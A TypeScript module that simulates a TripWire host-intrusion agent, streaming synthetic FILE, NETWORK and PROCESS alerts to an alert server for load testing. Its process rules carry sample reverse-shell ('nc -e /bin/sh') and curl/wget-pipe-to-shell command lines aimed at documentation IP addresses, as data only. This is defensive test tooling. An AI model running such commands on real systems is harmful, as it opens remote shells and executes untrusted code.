/**
 * One simulated TripWire agent over any Connect transport (gRPC, Connect, gRPC-Web).
 *
 * It behaves like a deployed agent: it registers, opens one StreamAlerts stream and
 * pipelines realistic events on it — sending without waiting for each ACK while a
 * separate loop reads the ServerCommands — with at most `maxInFlight` events unanswered.
 * The CLI (agent-simulator.ts) runs a few of these; a benchmark can run many in one process.
 */
import { randomUUID } from "node:crypto";
import { setTimeout as delay } from "node:timers/promises";
import { create } from "@bufbuild/protobuf";
import { type Client, ConnectError } from "@connectrpc/connect";
import {
  type AgentEvent,
  AgentEventSchema,
  type AlertService,
  type ServerCommand,
} from "../gen/alert/alert_pb.js";

/** A source of uniform numbers in [0, 1), like Math.random; tests pass a seeded one. */
export type Rng = () => number;

type TripwireType = "FILE" | "NETWORK" | "PROCESS";
type Severity = "INFO" | "WARN" | "CRITICAL";

/** One rule an agent can fire, with the detail it reports. */
interface RuleTemplate {
  readonly type: TripwireType;
  readonly rule: string;
  readonly severity: Severity;
  readonly detail: (rng: Rng) => Record<string, unknown>;
}

const encoder = new TextEncoder();
const decoder = new TextDecoder();

function pick<T>(items: readonly T[], rng: Rng): T {
  return items[Math.floor(rng() * items.length) % items.length] as T;
}

function between(low: number, high: number, rng: Rng): number {
  return low + Math.floor(rng() * (high - low + 1));
}

// Addresses are only strings in the JSON; nothing is ever contacted. Loopback and the
// documentation ranges (RFC 5737) cannot name anyone's real machine.
function loopbackIp(rng: Rng): string {
  return `127.${between(0, 255, rng)}.${between(0, 255, rng)}.${between(1, 254, rng)}`;
}

function documentationIp(rng: Rng): string {
  return `${pick(["192.0.2", "198.51.100", "203.0.113"], rng)}.${between(1, 254, rng)}`;
}

function fileDetail(
  paths: readonly string[],
  operations: readonly string[],
  who: readonly string[],
) {
  return (rng: Rng) => ({
    path: pick(paths, rng),
    operation: pick(operations, rng),
    user: pick(who, rng),
    pid: between(300, 65_000, rng),
  });
}

function networkDetail(
  direction: "outbound" | "inbound",
  protocol: "tcp" | "udp",
  ports: readonly number[],
  exes: readonly string[],
) {
  return (rng: Rng) => {
    const local = loopbackIp(rng);
    const remote = rng() < 0.5 ? loopbackIp(rng) : documentationIp(rng);
    const port = pick(ports, rng);
    const ephemeral = between(32_768, 60_999, rng);
    const owner = { pid: between(300, 65_000, rng), exe: pick(exes, rng) };
    return direction === "outbound"
      ? {
          direction,
          protocol,
          src_ip: local,
          src_port: ephemeral,
          dst_ip: remote,
          dst_port: port,
          ...owner,
        }
      : {
          direction,
          protocol,
          src_ip: remote,
          src_port: ephemeral,
          dst_ip: local,
          dst_port: port,
          ...owner,
        };
  };
}

function processDetail(exe: string, cmdlines: readonly string[], who: readonly string[]) {
  return (rng: Rng) => {
    const ppid = between(1, 30_000, rng);
    return {
      pid: ppid + between(1, 30_000, rng),
      ppid,
      exe,
      cmdline: pick(cmdlines, rng),
      user: pick(who, rng),
    };
  };
}

/** The rules the simulator fires, grouped as it picks them: by type, then severity. */
const rules: readonly RuleTemplate[] = [
  // FILE
  {
    type: "FILE",
    rule: "package-binary-updated",
    severity: "INFO",
    detail: fileDetail(
      ["/usr/bin/curl", "/usr/bin/python3", "/usr/lib/libssl.so.3"],
      ["write"],
      ["root"],
    ),
  },
  {
    type: "FILE",
    rule: "log-rotated",
    severity: "INFO",
    detail: fileDetail(["/var/log/syslog.1", "/var/log/nginx/access.log.1"], ["delete"], ["root"]),
  },
  {
    type: "FILE",
    rule: "passwd-modified",
    severity: "WARN",
    detail: fileDetail(["/etc/passwd", "/etc/group"], ["write"], ["root"]),
  },
  {
    type: "FILE",
    rule: "sshd-config-changed",
    severity: "WARN",
    detail: fileDetail(["/etc/ssh/sshd_config"], ["write", "chmod"], ["root", "deploy"]),
  },
  {
    type: "FILE",
    rule: "crontab-modified",
    severity: "WARN",
    detail: fileDetail(
      ["/etc/crontab", "/var/spool/cron/crontabs/deploy"],
      ["write"],
      ["root", "deploy"],
    ),
  },
  {
    type: "FILE",
    rule: "shadow-modified",
    severity: "CRITICAL",
    detail: fileDetail(["/etc/shadow", "/etc/gshadow"], ["write", "chmod"], ["root", "www-data"]),
  },
  {
    type: "FILE",
    rule: "setuid-binary-changed",
    severity: "CRITICAL",
    detail: fileDetail(
      ["/usr/bin/sudo", "/usr/bin/passwd", "/usr/bin/su"],
      ["chmod", "write"],
      ["root", "alice"],
    ),
  },
  {
    type: "FILE",
    rule: "auth-log-deleted",
    severity: "CRITICAL",
    detail: fileDetail(["/var/log/auth.log", "/var/log/wtmp"], ["delete"], ["root", "www-data"]),
  },
  // NETWORK
  {
    type: "NETWORK",
    rule: "outbound-https",
    severity: "INFO",
    detail: networkDetail("outbound", "tcp", [443], ["/usr/bin/curl"]),
  },
  {
    type: "NETWORK",
    rule: "dns-query",
    severity: "INFO",
    detail: networkDetail("outbound", "udp", [53], ["/lib/systemd/systemd-resolved"]),
  },
  {
    type: "NETWORK",
    rule: "outbound-ssh",
    severity: "WARN",
    detail: networkDetail("outbound", "tcp", [22, 2222], ["/usr/bin/ssh"]),
  },
  {
    type: "NETWORK",
    rule: "unexpected-listener",
    severity: "WARN",
    detail: networkDetail("inbound", "tcp", [8081, 9000, 31337], ["/usr/bin/python3"]),
  },
  {
    type: "NETWORK",
    rule: "reverse-shell-port",
    severity: "CRITICAL",
    detail: networkDetail("outbound", "tcp", [4444, 1337], ["/bin/bash"]),
  },
  {
    type: "NETWORK",
    rule: "irc-botnet-port",
    severity: "CRITICAL",
    detail: networkDetail("outbound", "tcp", [6667, 6697], ["/tmp/.x/kworker"]),
  },
  // PROCESS
  {
    type: "PROCESS",
    rule: "package-manager-run",
    severity: "INFO",
    detail: processDetail("/usr/bin/apt-get", ["apt-get update", "apt-get -y upgrade"], ["root"]),
  },
  {
    type: "PROCESS",
    rule: "cron-job-started",
    severity: "INFO",
    detail: processDetail(
      "/usr/sbin/logrotate",
      ["/usr/sbin/logrotate /etc/logrotate.conf"],
      ["root"],
    ),
  },
  {
    type: "PROCESS",
    rule: "sudo-invoked",
    severity: "WARN",
    detail: processDetail(
      "/usr/bin/sudo",
      ["sudo -l", "sudo systemctl restart nginx", "sudo -i"],
      ["alice", "bob", "deploy"],
    ),
  },
  {
    type: "PROCESS",
    rule: "shell-from-web-server",
    severity: "WARN",
    detail: processDetail("/bin/sh", ["sh -c id", "sh -c uname -a"], ["www-data"]),
  },
  {
    type: "PROCESS",
    rule: "netcat-listener",
    severity: "CRITICAL",
    detail: processDetail(
      "/usr/bin/nc",
      ["nc -lvnp 4444", "nc -e /bin/sh 192.0.2.66 4444"],
      ["www-data", "bob"],
    ),
  },
  {
    type: "PROCESS",
    rule: "curl-pipe-shell",
    severity: "CRITICAL",
    detail: processDetail(
      "/bin/bash",
      ["bash -c curl -fsSL http://192.0.2.66/i.sh | sh", "bash -c wget -qO- 203.0.113.9/x | sh"],
      ["www-data", "postgres"],
    ),
  },
];

const typeWeights: ReadonlyArray<readonly [TripwireType, number]> = [
  ["FILE", 0.4],
  ["PROCESS", 0.35],
  ["NETWORK", 0.25],
];
// Mostly noise, some signal: what a fleet's alert stream looks like.
const severityWeights: ReadonlyArray<readonly [Severity, number]> = [
  ["INFO", 0.6],
  ["WARN", 0.3],
  ["CRITICAL", 0.1],
];

function weighted<T>(choices: ReadonlyArray<readonly [T, number]>, rng: Rng): T {
  let r = rng();
  for (const [value, weight] of choices) {
    if (r < weight) return value;
    r -= weight;
  }
  return (choices[choices.length - 1] as readonly [T, number])[0];
}

const rulesByKind = new Map<string, RuleTemplate[]>();
for (const r of rules) {
  const key = `${r.type}/${r.severity}`;
  rulesByKind.set(key, [...(rulesByKind.get(key) ?? []), r]);
}

/** The current time in Unix epoch microseconds (millisecond precision). */
function nowMicros(): bigint {
  return BigInt(Date.now()) * 1000n;
}

/**
 * A valid, realistic event for `hostId`: a FILE, NETWORK or PROCESS rule firing now, with
 * a fresh alert_id and a detail JSON that fits the rule. Severities are mostly INFO and
 * WARN, about one in ten CRITICAL.
 */
export function makeRealisticEvent(hostId: string, rng: Rng = Math.random): AgentEvent {
  const type = weighted(typeWeights, rng);
  const severity = weighted(severityWeights, rng);
  const template = pick(rulesByKind.get(`${type}/${severity}`) ?? rules, rng);
  return create(AgentEventSchema, {
    alertId: randomUUID(),
    hostId,
    timestampUs: nowMicros(),
    tripwireType: template.type,
    ruleName: template.rule,
    severity: template.severity,
    eventDetailJson: encoder.encode(JSON.stringify(template.detail(rng))),
  });
}

/** The ways the simulator breaks an event on purpose (`errorMix`), used in turn. */
export const invalidKinds = [
  "bad-tripwire-type",
  "stale-timestamp",
  "bad-json",
  "missing-rule-name",
] as const;

/** One deliberate way to make an event invalid. */
export type InvalidKind = (typeof invalidKinds)[number];

/** A realistic event for `hostId`, broken in the way `kind` names so the server refuses it. */
export function makeInvalidEvent(
  hostId: string,
  kind: InvalidKind,
  rng: Rng = Math.random,
): AgentEvent {
  const event = makeRealisticEvent(hostId, rng);
  switch (kind) {
    case "bad-tripwire-type":
      event.tripwireType = pick(["USB", "file", "REGISTRY"], rng);
      break;
    case "stale-timestamp":
      // An agent whose clock is hours behind, or replaying a long-dead queue.
      event.timestampUs -= BigInt(between(3_600, 86_400, rng)) * 1_000_000n;
      break;
    case "bad-json":
      // Cut off mid-object, as a truncated write would leave it.
      event.eventDetailJson = encoder.encode('{"path":"/etc/shadow","operation":');
      break;
    case "missing-rule-name":
      event.ruleName = "";
      break;
  }
  return event;
}

/**
 * Whether event number `index` (from 0) is one of the deliberately invalid ones: exactly
 * `mix` of any prefix of the sequence, rounded down, spread evenly (0.2 → every fifth).
 */
export function isDeliberatelyInvalid(index: number, mix: number): boolean {
  return Math.floor((index + 1) * mix) > Math.floor(index * mix);
}

/**
 * Paces events on a schedule computed from elapsed time: event n is due at
 * start + n / rate. Waiting is only needed when the next event is not yet due, so at high
 * rates one timer covers many events; events held back (by the in-flight bound) go out
 * as soon as they may, as an agent's local queue would send them.
 */
export class Pacer {
  readonly #rate: number;
  readonly #now: () => number;
  #start: number | undefined;
  #taken = 0;

  /** `rate` in events per second, 0 for no pacing; `now` in milliseconds. */
  constructor(rate: number, now: () => number = () => performance.now()) {
    this.#rate = rate;
    this.#now = now;
  }

  /** Takes the next event's slot and returns how many ms to wait before sending it. */
  next(): number {
    if (this.#rate <= 0) return 0;
    const now = this.#now();
    this.#start ??= now;
    const due = this.#start + (this.#taken * 1000) / this.#rate;
    this.#taken++;
    return Math.max(0, due - now);
  }
}

/**
 * The error text with its variable parts (values, numbers, parentheticals, hints after a
 * semicolon) taken out, so errors of one kind count under one reason.
 */
export function errorReason(error: string): string {
  const reason = (error.split(";", 1)[0] ?? "")
    .replace(/\([^)]*\)/g, "")
    .replace(/"[^"]*"|'[^']*'/g, '"…"')
    .replace(/\d+/g, "N")
    .replace(/\s+/g, " ")
    .trim();
  return reason.length > 100 ? `${reason.slice(0, 99)}…` : reason;
}

/** One ServerCommand, matched to the event it answers. */
export interface AgentReply {
  /** "ACK" or "ERROR" (or whatever else the server sent). */
  readonly type: string;
  readonly alertId: string;
  readonly error: string | undefined;
  /** From handing the event to the transport to reading its reply. */
  readonly latencyMs: number;
  /** Set when the event was broken on purpose. */
  readonly invalidKind: InvalidKind | undefined;
}

/** Counters of one simulated agent; a snapshot while it runs, final once it is done. */
export interface AgentStats {
  readonly hostname: string;
  /** The host_id RegisterAgent returned; undefined if registration failed. */
  readonly hostId: string | undefined;
  /** Events handed to the stream. */
  readonly sent: number;
  /** Of those, how many were broken on purpose. */
  readonly invalidSent: number;
  readonly acked: number;
  /** ERROR replies (and any reply of another type). */
  readonly errors: number;
  /** ERROR replies by `errorReason`. */
  readonly errorsByReason: Readonly<Record<string, number>>;
  /** Sent and not yet answered; once done, the events whose reply never came. */
  readonly inFlight: number;
  /** Valid events the server refused (for example, database unavailable). */
  readonly validRefused: number;
  /** Deliberately invalid events the server accepted: a validation gap. */
  readonly invalidAccepted: number;
  /** Replies that matched no event in flight (unknown alert_id, unreadable payload). */
  readonly unmatched: number;
  readonly latencySumMs: number;
  readonly latencyMaxMs: number;
  /** Why the agent stopped early: registration or the stream failed. */
  readonly failure: string | undefined;
}

/** What one simulated agent does. */
export interface SimulatedAgentOptions {
  /** An AlertService client; its transport decides the protocol. */
  readonly client: Client<typeof AlertService>;
  readonly hostname: string;
  readonly platform?: string;
  readonly agentVersion?: string;
  /** Events per second; 0 sends as fast as the in-flight bound allows. */
  readonly rate: number;
  /** Stop sending after this long; 0 for no time limit. */
  readonly durationMs: number;
  /** Stop sending after this many events; undefined for no limit. */
  readonly count?: number;
  /** Fraction (0..1) of events broken on purpose, spread evenly; default 0. */
  readonly errorMix?: number;
  /** Most events sent and not yet answered; default 256. */
  readonly maxInFlight?: number;
  /** Aborting stops sending; the agent then waits for outstanding replies. */
  readonly signal?: AbortSignal;
  /** After sending stopped, how long to wait for outstanding replies; default 5000. */
  readonly drainTimeoutMs?: number;
  /** How long RegisterAgent may take; default 10000. */
  readonly registerTimeoutMs?: number;
  /** Randomness for event contents; default Math.random. */
  readonly rng?: Rng;
  /** Called as each event is handed to the stream. */
  readonly onSend?: (event: AgentEvent, invalidKind: InvalidKind | undefined) => void;
  /** Called for each reply that matched an event in flight. */
  readonly onReply?: (reply: AgentReply) => void;
}

/** A running simulated agent. */
export interface SimulatedAgent {
  readonly hostname: string;
  /** A snapshot of the counters now. */
  stats(): AgentStats;
  /** Resolves with the final counters once the stream ended; never rejects. */
  readonly done: Promise<AgentStats>;
}

type Counters = { -readonly [K in keyof AgentStats]: AgentStats[K] };

interface InFlight {
  readonly sentAt: number;
  readonly invalidKind: InvalidKind | undefined;
}

/** Starts one simulated agent: register, then stream until count, duration or signal. */
export function startSimulatedAgent(options: SimulatedAgentOptions): SimulatedAgent {
  const counters: Counters = {
    hostname: options.hostname,
    hostId: undefined,
    sent: 0,
    invalidSent: 0,
    acked: 0,
    errors: 0,
    errorsByReason: {},
    inFlight: 0,
    validRefused: 0,
    invalidAccepted: 0,
    unmatched: 0,
    latencySumMs: 0,
    latencyMaxMs: 0,
    failure: undefined,
  };
  const reasons = new Map<string, number>();
  const inFlight = new Map<string, InFlight>();
  const snapshot = (): AgentStats => ({
    ...counters,
    inFlight: inFlight.size,
    errorsByReason: Object.fromEntries(reasons),
  });
  const done = run(options, counters, reasons, inFlight).then(snapshot, (err: unknown) => {
    counters.failure ??= `simulated agent failed: ${describeError(err)}`;
    return snapshot();
  });
  return { hostname: options.hostname, stats: snapshot, done };
}

/** Runs one simulated agent to the end; see startSimulatedAgent. */
export function runSimulatedAgent(options: SimulatedAgentOptions): Promise<AgentStats> {
  return startSimulatedAgent(options).done;
}

async function run(
  o: SimulatedAgentOptions,
  counters: Counters,
  reasons: Map<string, number>,
  inFlight: Map<string, InFlight>,
): Promise<void> {
  const maxInFlight = o.maxInFlight ?? 256;
  const errorMix = o.errorMix ?? 0;
  const rng = o.rng ?? Math.random;
  const drainTimeoutMs = o.drainTimeoutMs ?? 5_000;

  try {
    const res = await o.client.registerAgent(
      {
        hostname: o.hostname,
        platform: o.platform ?? "linux",
        agentVersion: o.agentVersion ?? "tripwire-simulator/0.1.0",
      },
      { signal: o.signal, timeoutMs: o.registerTimeoutMs ?? 10_000 },
    );
    counters.hostId = res.hostId;
  } catch (err) {
    counters.failure = `RegisterAgent failed: ${describeError(err)}`;
    return;
  }
  const hostId = counters.hostId;

  // `stop` ends sending (signal, duration); `call` cancels the RPC when the drain times out.
  const stop = new AbortController();
  const call = new AbortController();
  let wake: (() => void) | undefined;
  const nudge = (): void => {
    const w = wake;
    wake = undefined;
    w?.();
  };
  const onStop = (): void => {
    stop.abort();
    nudge();
  };
  if (o.signal?.aborted) onStop();
  o.signal?.addEventListener("abort", onStop, { once: true });
  const durationTimer = o.durationMs > 0 ? setTimeout(onStop, o.durationMs) : undefined;
  let drainTimer: NodeJS.Timeout | undefined;
  let drainExpired = false;
  let finished = false;

  const pacer = new Pacer(o.rate);
  async function* events(): AsyncGenerator<AgentEvent> {
    try {
      for (let i = 0; o.count === undefined || i < o.count; i++) {
        while (inFlight.size >= maxInFlight && !stop.signal.aborted) {
          await new Promise<void>((resolve) => {
            wake = resolve;
          });
        }
        if (stop.signal.aborted) return;
        const wait = pacer.next();
        // Sub-millisecond waits cannot be timed; the schedule keeps the average right.
        if (wait >= 1) await delay(wait, undefined, { signal: stop.signal }).catch(() => {});
        if (stop.signal.aborted) return;
        const invalidKind = isDeliberatelyInvalid(i, errorMix)
          ? invalidKinds[counters.invalidSent % invalidKinds.length]
          : undefined;
        const event =
          invalidKind === undefined
            ? makeRealisticEvent(hostId, rng)
            : makeInvalidEvent(hostId, invalidKind, rng);
        inFlight.set(event.alertId, { sentAt: performance.now(), invalidKind });
        counters.sent++;
        if (invalidKind !== undefined) counters.invalidSent++;
        o.onSend?.(event, invalidKind);
        yield event;
      }
    } finally {
      // Sending is over (count, duration, signal, or the stream failed): the server now
      // answers what is in flight and ends the stream; give it a bounded time to do so.
      if (!finished) {
        drainTimer = setTimeout(() => {
          drainExpired = true;
          call.abort();
        }, drainTimeoutMs);
      }
    }
  }

  const onReply = (cmd: ServerCommand): void => {
    let payload: { alert_id?: unknown; error?: unknown };
    try {
      payload = JSON.parse(decoder.decode(cmd.payload)) as typeof payload;
    } catch {
      counters.unmatched++;
      return;
    }
    const alertId = typeof payload.alert_id === "string" ? payload.alert_id : "";
    const sent = inFlight.get(alertId);
    if (sent === undefined) {
      counters.unmatched++;
      return;
    }
    inFlight.delete(alertId);
    const latencyMs = performance.now() - sent.sentAt;
    counters.latencySumMs += latencyMs;
    if (latencyMs > counters.latencyMaxMs) counters.latencyMaxMs = latencyMs;
    let error: string | undefined;
    if (cmd.type === "ACK") {
      counters.acked++;
      if (sent.invalidKind !== undefined) counters.invalidAccepted++;
    } else {
      error = typeof payload.error === "string" ? payload.error : `reply of type "${cmd.type}"`;
      counters.errors++;
      if (sent.invalidKind === undefined) counters.validRefused++;
      const reason = errorReason(error);
      reasons.set(reason, (reasons.get(reason) ?? 0) + 1);
    }
    o.onReply?.({ type: cmd.type, alertId, error, latencyMs, invalidKind: sent.invalidKind });
  };

  try {
    for await (const cmd of o.client.streamAlerts(events(), { signal: call.signal })) {
      onReply(cmd);
      if (inFlight.size < maxInFlight) nudge();
    }
  } catch (err) {
    // After a drain timeout the cancellation is ours; the missing replies say enough.
    if (!drainExpired) counters.failure = `StreamAlerts failed: ${describeError(err)}`;
  } finally {
    finished = true;
    o.signal?.removeEventListener("abort", onStop);
    clearTimeout(durationTimer);
    clearTimeout(drainTimer);
    onStop(); // a sender still waiting for room (the stream ended under it) returns
  }
}

function describeError(err: unknown): string {
  if (err instanceof ConnectError) return err.message;
  return err instanceof Error ? err.message : String(err);
}
